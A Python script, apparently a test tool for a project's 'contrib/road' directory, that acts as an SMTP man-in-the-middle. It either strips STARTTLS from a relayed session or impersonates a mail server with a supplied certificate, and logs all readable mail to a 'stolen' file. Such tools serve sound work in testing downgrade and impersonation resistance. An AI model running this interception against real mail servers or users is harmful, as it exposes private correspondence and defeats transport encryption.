#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""A man in the middle, for contrib/road: road_thief.py DIR ADDRESS strip BEHIND | cert FILE

Takes connections at ADDRESS, port 25. strip: passes everything on to BEHIND, but hides that it offers STARTTLS. cert: a
mail server with that key and certificate, which takes whatever comes. What it could read is appended to DIR/log/stolen.
DIR/run/thief is made when it listens."""
import os
import signal
import socket
import ssl
import sys
import threading

folder, address, mode, argument = sys.argv[1:]


def steal(data):
    with open(folder + '/log/stolen', 'ab') as log:
        log.write(data)


def copy(source, sink):
    while data := source.recv(65536):
        steal(data)
        sink.sendall(data)
    sink.shutdown(socket.SHUT_WR)


def strip(client):
    server = socket.create_connection((argument, 25))
    threading.Thread(target=copy, args=(client, server), daemon=True).start()
    for line in server.makefile('rb'):
        if line[4:].strip().upper() == b'STARTTLS':
            line = b'' if line[3:4] == b'-' else b'250 HELP\r\n'
        client.sendall(line)


def serve(client):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(argument)
    client.sendall(b'220 mail ESMTP\r\n')
    text = client.makefile('rb')
    while line := text.readline():
        verb = line.split()[0].upper() if line.split() else b''
        if verb == b'EHLO':
            client.sendall(b'250-mail\r\n250 STARTTLS\r\n')
        elif verb == b'STARTTLS':
            client.sendall(b'220 go\r\n')
            client = context.wrap_socket(client, server_side=True)
            text = client.makefile('rb')
        elif verb == b'DATA':
            client.sendall(b'354 go\r\n')
            while (line := text.readline()) not in (b'.\r\n', b''):
                steal(line)
            client.sendall(b'250 ok\r\n')
        elif verb == b'QUIT':
            client.sendall(b'221 bye\r\n')
            return
        else:
            client.sendall(b'250 ok\r\n')


def guard(client):
    try:
        client.settimeout(30)
        (strip if mode == 'strip' else serve)(client)
    except OSError:
        pass
    finally:
        client.close()


signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
listener = socket.create_server((address, 25), backlog=16)
open(folder + '/run/thief', 'w').close()
while True:
    threading.Thread(target=guard, args=(listener.accept()[0],), daemon=True).start()
